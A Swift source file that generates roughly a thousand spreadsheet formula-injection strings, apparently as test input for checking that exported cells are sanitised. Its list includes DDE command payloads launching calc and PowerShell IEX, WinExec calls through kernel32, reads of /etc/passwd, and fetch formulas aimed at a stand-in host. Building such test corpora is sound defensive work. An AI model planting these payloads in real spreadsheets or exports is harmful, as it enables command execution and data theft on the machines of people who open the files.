/// A thousand texts that a spreadsheet could take for something to compute, fetch or start.
enum FormulaPayloads {
    private static let openings = [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "  +", "'=", "\"=", "=\"", "dòng một\n=",
        "=-", ";=", "{=",
    ]

    private static let bodies = [
        "1+1", "A1", "SUM(A1:A9)", "HYPERLINK(\"http://a.example\";\"Bấm\")", "HYPERLINK(\"http://a.example\",\"Bấm\")",
        "cmd|' /C calc'!A0", "cmd|'/C powershell IEX'!_xlbgnm.A1", "DDE(\"cmd\";\"/C calc\";\"A\")",
        "DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
        "WEBSERVICE(\"http://a.example\")", "IMPORTXML(\"http://a.example\";\"//a\")",
        "IMPORTDATA(\"http://a.example\")",
        "IMAGE(\"http://a.example/x.png\")", "INDIRECT(\"A1\")", "EXEC(\"calc\")",
        "CALL(\"kernel32\";\"WinExec\";\"JCJ\")",
        "REGISTER.ID(\"kernel32\";\"WinExec\")", "RTD(\"a\";;\"b\")", "'file:///etc/passwd'#$Sheet1.A1",
        "[http://a.example/x.xlsx]Sheet1!A1", "_xlfn.STOCKHISTORY(\"A\")", "_x003D_1+1", "LET(x;1;x)", "LAMBDA(x;x)(1)",
        "10+20+cmd|' /C calc'!A0", "2+5", "ABS(-1)", "IF(TRUE;1;2)", "CONCATENATE(A1:B9)", "NOW()", "RAND()",
        "MULTIPLE.OPERATIONS(A1;A2;A3)", "STYLE(\"x\")", "OFFSET(A1;1;1)", "VLOOKUP(A1;B1:C9;2)", "Ký!A1", "$A$1",
        "A1:B2", "#REF!", "1/0", "\"a\"&\"b\"", "TRUE", "0x1F", "1e999", "١+١", "💥()", "%3D1+1", "&lt;f&gt;1&lt;/f&gt;",
        "</t></is><f>1+1</f>",
    ]

    /// The texts, each different.
    static let all = openings.flatMap { opening in bodies.map { opening + $0 } }
}
